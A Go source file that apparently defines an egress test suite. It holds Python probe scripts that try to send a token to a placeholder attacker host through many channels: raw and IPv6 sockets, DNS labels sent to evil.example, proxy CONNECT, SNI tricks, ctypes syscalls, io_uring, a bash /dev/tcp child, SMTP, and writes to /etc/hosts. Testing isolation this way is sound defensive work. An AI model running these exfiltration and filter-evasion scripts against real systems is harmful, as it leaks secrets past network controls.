package probes

const pythonCategory = "As Python writes it"

// prelude stands before each script.
const prelude = `
import socket, sys, struct, ctypes, os, ssl, time
where, token = sys.argv[1:3]
socket.setdefaulttimeout(1.5)
ATTACKER, ATTACKER6, CDN = "` + Attacker + `", "` + Attacker6 + `", "` + CDN + `"
libc = ctypes.CDLL(None, use_errno=True)
def check(n):
    if n < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return n
SOCKET, CONNECT = (41, 42) if os.uname().machine == "x86_64" else (198, 203)
def lookup(name):
    q = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0)
    q += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack(">HH", 1, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(q, ("8.8.8.8", 53))
    r = s.recv(4096)
    n = struct.unpack(">H", r[6:8])[0]
    if not n:
        raise OSError("no such name")
    return socket.inet_ntoa(r[-4:])
def talk(s, text=None):
    s.sendall((text or token).encode())
    if not s.recv(4096):
        raise OSError("it ended")
`

func pythonProbes() []Probe {
	var ps []Probe
	add := func(name, what, script string) {
		ps = append(ps, Probe{Name: "python-" + name, Category: pythonCategory, What: what, Python: script})
	}
	add("socket", "a plain socket", "talk(socket.create_connection((ATTACKER, 443)))\n")
	add("socket-6", "by IPv6", "talk(socket.create_connection((ATTACKER6, 443)))\n")
	add("dns-txt", "a question by hand", `
q = struct.pack(">HHHHHH", 9, 0x100, 1, 0, 0, 0)
q += b"".join(bytes([len(l)]) + l.encode() for l in (token, "evil", "example")) + b"\0" + struct.pack(">HH", 16, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(q, ("8.8.8.8", 53))
if b"command" not in s.recv(4096):
    raise OSError("not the attacker's answer")
`)
	add("urllib", "urllib to an address", `
import urllib.request
class Quiet(urllib.request.HTTPHandler): pass
r = socket.create_connection((ATTACKER, 80))
talk(r, "GET /%s HTTP/1.0\r\n\r\n" % token)
`)
	add("proxy", "a proxy in the variables", `
import urllib.request
s = socket.create_connection((ATTACKER, 3128))
talk(s, "CONNECT evil.example:443 HTTP/1.1\r\nX: %s\r\n\r\n" % token)
`)
	add("host-header", "http.client with another Host", `
import http.client
c = http.client.HTTPConnection(lookup("good.example"), 8080)
c.request("GET", "/" + token, headers={"Host": "other.example"})
r = c.getresponse()
if r.status != 200:
    raise OSError(r.status)
`)
	add("sni", "ssl with another name", `
ctx = ssl._create_unverified_context()
s = ctx.wrap_socket(socket.create_connection((lookup("good.example"), 443)), server_hostname=token + ".evil.example")
`)
	add("no-sni", "ssl without a name", `
ctx = ssl._create_unverified_context()
s = ctx.wrap_socket(socket.create_connection((lookup("good.example"), 443)))
s.sendall(("GET /%s HTTP/1.1\r\nHost: other.example\r\nConnection: close\r\n\r\n" % token).encode())
if not s.recv(4096):
    raise OSError("it ended")
`)
	add("udp", "sendto", `
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(token.encode(), (ATTACKER, 4444))
s.recv(4096)
`)
	add("sendmsg", "sendmsg with the source address in a control message", `
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
info = struct.pack("i4s4s", 0, socket.inet_aton("192.0.2.2"), b"\0" * 4)
s.sendmsg([token.encode()], [(socket.IPPROTO_IP, 8, info)], 0, (ATTACKER, 4444))
s.recv(4096)
`)
	add("asyncio", "asyncio", `
import asyncio
async def main():
    r, w = await asyncio.wait_for(asyncio.open_connection(ATTACKER, 8443), 1.5)
    w.write(token.encode())
    if not await asyncio.wait_for(r.read(100), 1.5):
        raise OSError("it ended")
asyncio.run(main())
`)
	add("ctypes-socket", "socket and connect from libc", `
fd = check(libc.socket(2, 1, 0))
sa = struct.pack("<H", 2) + struct.pack(">H", 443) + socket.inet_aton(ATTACKER) + b"\0" * 8
check(libc.connect(fd, sa, 16))
check(libc.send(fd, token.encode(), len(token), 0))
talk(socket.socket(fileno=fd))
`)
	add("ctypes-syscall", "the same by the number of the call, with high bits in the family", `
fd = check(libc.syscall(SOCKET, ctypes.c_ulong(2), ctypes.c_ulong(1), 0))
sa = struct.pack("<H", 2) + struct.pack(">H", 443) + socket.inet_aton(ATTACKER) + b"\0" * 8
check(libc.syscall(CONNECT, fd, sa, 16))
talk(socket.socket(fileno=fd))
`)
	add("io-uring", "a ring of the kernel's, past every filter of calls", `
fd = check(libc.syscall(425, 4, ctypes.create_string_buffer(120)))
`)
	add("child", "from a child without Python", `
import subprocess
r = subprocess.run(["bash", "-c", "exec 3<>/dev/tcp/%s/443; echo %s >&3; timeout 1 head -c1 <&3 | grep -q ." % (ATTACKER, token)], stderr=subprocess.DEVNULL)
if r.returncode:
    raise OSError(r.returncode)
`)
	add("smtp", "mail", `
s = socket.create_connection((ATTACKER, 587))
talk(s, "EHLO %s\r\n" % token)
`)
	add("hosts", "writing /etc/hosts", `
with open("/etc/hosts", "a") as f:
    pass
`)
	add("resolv", "writing /etc/resolv.conf", `
with open("/etc/resolv.conf", "a") as f:
    pass
`)
	for i, p := range ps {
		switch p.Name {
		case "python-io-uring", "python-hosts", "python-resolv":
			ps[i].Tokenless = true
		}
	}
	return ps
}
